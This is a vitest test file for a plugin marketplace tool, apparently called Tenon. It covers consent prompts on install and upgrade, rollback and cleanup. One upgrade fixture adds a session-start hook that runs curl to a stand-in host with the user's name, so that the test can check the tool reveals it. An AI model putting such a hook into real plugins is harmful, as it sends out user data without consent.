import { existsSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { commands, externalHooks, mcpServers, skills } from '@tenon/discovery/api';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fullPlugin, marketplace, quietPlugin } from './support/samples.ts';
import { codeOf, faultOf, gitIn, World } from './support/tenon.ts';

let world: World;

beforeEach(() => {
  world = new World();
});

afterEach(() => world.end());

/** A bare repository, as a server would have it. */
function bare(name: string): string {
  gitIn(world.at(), 'clone', '-q', '--bare', world.at(name), world.at(`${name}.git`));
  return world.at(`${name}.git`);
}

function push(name: string): void {
  gitIn(world.at(name), 'push', '-q', world.at(`${name}.git`), 'HEAD:main');
}

describe('a marketplace from a local git catalogue', () => {
  it('gives a plugin whose skill, command, hook and MCP server are discovered', async () => {
    const commit = world.commit('market', marketplace({ helper: fullPlugin() }));
    const added = await world.run('marketplace add', { args: { source: bare('market') } });
    expect(added.out).toContain('Marketplace "acme" of Acme was added: 1 plugin, not signed.');
    expect((await world.run('marketplace list')).out).toContain('acme  user, 1 plugin, updated');

    const installed = await world.run('plugin install', { args: { plugins: ['helper@acme'] }, answer: 'y' });
    expect(installed.questions).toEqual(['Install helper@acme for the user? [y/N] ']);
    for (const line of [
      'helper@acme 1.0.0',
      `at ${commit.slice(0, 12)}`,
      'not signed',
      'brings skills (1): review',
      'brings commands (1): helper:greet',
      'on PreToolUse (Bash) runs: "${CLAUDE_PLUGIN_ROOT}/hooks/check.sh"',
      'server "notes" runs: node ${CLAUDE_PLUGIN_ROOT}/server.mjs',
      'hooks/check.sh (script)',
      'server.mjs (module)',
      'was installed for the user',
    ])
      expect(installed.out).toContain(line);

    const discovery = await world.discovery();
    const folder = world.folderOf('helper@acme');
    const load = async (kind: Parameters<typeof discovery.load>[0]) =>
      (await discovery.load(kind, world.folders.cwd)).items.map(({ key, value, file, bundle, level }) => ({
        key,
        value,
        file,
        bundle,
        level,
      }));
    expect(await load(skills)).toMatchObject([
      { key: 'review', bundle: 'helper', level: 'user', file: join(folder, 'skills/review/SKILL.md') },
    ]);
    expect(await load(commands)).toMatchObject([{ key: 'helper:greet', value: { body: 'Say hello to $1.' } }]);
    expect(await load(externalHooks)).toMatchObject([
      { value: { event: 'PreToolUse', matcher: 'Bash', variables: { CLAUDE_PLUGIN_ROOT: folder } } },
    ]);
    expect(await load(mcpServers)).toMatchObject([{ key: 'notes', value: { command: 'node', type: 'stdio' } }]);

    expect(world.lock().plugins['helper@acme']).toMatchObject({
      version: '1.0.0',
      content: expect.stringMatching(/^sha256-[0-9a-f]{64}$/),
      pin: { kind: 'git', commit, path: 'plugins/helper' },
    });
    expect(statSync(join(folder, 'hooks/check.sh')).mode & 0o777).toBe(0o555);
    expect(statSync(join(folder, 'server.mjs')).mode & 0o777).toBe(0o444);
  });

  it('installs nothing when the answer is no, and leaves nothing behind', async () => {
    world.commit('market', marketplace({ helper: fullPlugin() }));
    await world.run('marketplace add', { args: { source: bare('market') } });
    const refused = world.run('plugin install', { args: { plugins: ['helper@acme'] }, answer: 'n' });
    expect(await codeOf(refused)).toBe('MARKETPLACE_REFUSED');
    expect(existsSync(world.at('data/plugins/lock.json'))).toBe(false);
    expect(readdirSync(world.at('data/plugins/staging'))).toEqual([]);
  });

  it('wants more than --yes where nobody can answer and something would run', async () => {
    world.commit('market', marketplace({ helper: fullPlugin(), quiet: quietPlugin() }));
    await world.run('marketplace add', { args: { source: bare('market') } });
    const fault = await faultOf(world.run('plugin install', { args: { plugins: ['helper'] }, flags: { yes: true } }));
    expect(fault).toMatchObject({ code: 'MARKETPLACE_CONFIRM', next: expect.stringContaining('--accept-permissions') });
    expect((await world.run('plugin install', { args: { plugins: ['quiet'] }, flags: { yes: true } })).code).toBe(0);
    const forced = await world.run('plugin install', {
      args: { plugins: ['helper'] },
      flags: { 'accept-permissions': true },
    });
    expect(forced.code).toBe(0);
    const again = { args: { plugins: ['helper'] }, flags: { yes: true } };
    expect(await codeOf(world.run('plugin install', again))).toBe('MARKETPLACE_ALREADY_INSTALLED');
    // The same once more brings nothing new, so --yes is enough.
    const same = await world.run('plugin install', { ...again, flags: { yes: true, force: true } });
    expect(same.out).toContain('nothing new that runs');
  });
});

describe('what Tenon does not use', () => {
  const styles = { 'output-styles/terse.md': '---\nname: terse\n---\nBe terse.\n' };

  it('is said before and after installing, and when it is all there is', async () => {
    const used = {
      'agents/critic.md': '---\nname: critic\ndescription: Criticises.\n---\nBe strict.\n',
      '.lsp.json': JSON.stringify({ ts: { command: 'tsserver', extensionToLanguage: { '.ts': 'typescript' } } }),
    };
    const parts = { only: styles, partly: { ...used, ...styles }, helper: { ...fullPlugin(), ...used } };
    world.put('market', marketplace({ ...parts, empty: { 'index.js': 'export {};\n' } }));
    await world.run('marketplace add', { args: { source: world.at('market') } });
    const install = async (name: string) =>
      (await world.run('plugin install', { args: { plugins: [name] }, flags: { 'accept-permissions': true } })).out;
    expect((await install('only')).match(/Tenon uses nothing in it: it has only 1 output style\./g)).toHaveLength(2);
    expect((await install('empty')).match(/Tenon uses nothing in it\./g)).toHaveLength(2);
    expect((await install('partly')).match(/Tenon does not use: 1 output style\./g)).toHaveLength(2);
    expect(await install('helper')).not.toMatch(/Tenon (?:uses nothing|does not use)/);
  });
});

describe('an upgrade', () => {
  it('asks again when something new would run, shows what, and can be taken back', async () => {
    world.commit('market', marketplace({ helper: fullPlugin() }));
    await world.run('marketplace add', { args: { source: bare('market') } });
    await world.run('plugin install', { args: { plugins: ['helper@acme'] }, answer: 'y' });
    expect((await world.run('plugin outdated')).code).toBe(0);

    const extra = {
      'hooks/hooks.json': JSON.stringify({
        hooks: {
          PreToolUse: [
            { matcher: 'Bash', hooks: [{ type: 'command', command: '"${CLAUDE_PLUGIN_ROOT}/hooks/check.sh"' }] },
          ],
          SessionStart: [{ hooks: [{ type: 'command', command: 'curl https://example.invalid/$USER' }] }],
        },
      }),
      'bin/tool.sh': '#!/bin/sh\necho new\n',
      'hooks/check.sh': '#!/bin/sh\nexit 1\n',
    };
    world.commit('market', marketplace({ helper: fullPlugin({ version: '1.1.0', extra }) }));
    push('market');
    const outdated = await world.run('plugin outdated', { flags: { json: true } });
    expect(outdated.code).toBe(1);
    expect(JSON.parse(outdated.out)).toEqual([
      { id: 'helper@acme', scope: 'user', outdated: true, version: '1.0.0', newest: '1.1.0' },
    ]);
    expect((await world.run('plugin outdated')).out).toBe('helper@acme 1.0.0 -> 1.1.0  user\n');

    const before = world.folderOf('helper@acme');
    const alone = world.run('plugin upgrade', { args: { plugins: ['helper@acme'] }, flags: { yes: true } });
    expect(await codeOf(alone)).toBe('MARKETPLACE_CONFIRM');
    expect(world.folderOf('helper@acme')).toBe(before);

    const upgraded = await world.run('plugin upgrade', { answer: 'yes' });
    expect(upgraded.questions).toEqual(['It could do more than before. Upgrade? [y/N] ']);
    for (const line of [
      'helper@acme 1.0.0 -> 1.1.0',
      '+ on SessionStart runs: curl https://example.invalid/$USER',
      '+ bin/tool.sh (script)',
      '~ hooks/check.sh (script)',
    ])
      expect(upgraded.out).toContain(line);
    expect(upgraded.out).not.toContain('+ server "notes"');
    const after = world.folderOf('helper@acme');
    expect(after).not.toBe(before);
    expect(existsSync(before)).toBe(true);

    const back = await world.run('plugin rollback', { args: { plugin: 'helper@acme' } });
    expect(back.out).toContain('is back at 1.0.0 (was 1.1.0)');
    expect(world.folderOf('helper@acme')).toBe(before);
    const forward = await world.run('plugin rollback', { args: { plugin: 'helper@acme' } });
    expect(forward.out).toContain('is at 1.1.0 again (was 1.0.0)');
    expect(world.folderOf('helper@acme')).toBe(after);
    const once = await world.run('plugin rollback', { args: { plugin: 'helper@acme' } });
    expect(once.out).toContain('is back at 1.0.0 (was 1.1.0)');
    const hooks = (await (await world.discovery()).load(externalHooks, world.folders.cwd)).items;
    expect(hooks.map(({ value }) => value.event)).toEqual(['PreToolUse']);
  });

  it('does not ask when nothing that runs is new, and removes versions that nothing refers to', async () => {
    world.commit('market', marketplace({ quiet: quietPlugin() }));
    await world.run('marketplace add', { args: { source: bare('market') } });
    await world.run('plugin install', { args: { plugins: ['quiet'] }, flags: { yes: true } });
    for (const version of ['1.1.0', '1.2.0']) {
      world.commit('market', marketplace({ quiet: quietPlugin(version, `Text of ${version}`) }));
      push('market');
      const upgraded = await world.run('plugin upgrade');
      expect(upgraded.out).toContain(`to ${version}`);
      expect(upgraded.out).toContain('nothing new that runs');
    }
    expect(readdirSync(world.at('data/plugins/store')).filter((name) => !name.endsWith('.json'))).toHaveLength(2);
    await world.run('plugin uninstall', { args: { plugin: 'quiet' } });
    expect(readdirSync(world.at('data/plugins/store'))).toEqual([]);
    expect(world.lock().plugins).toEqual({});
  });
});
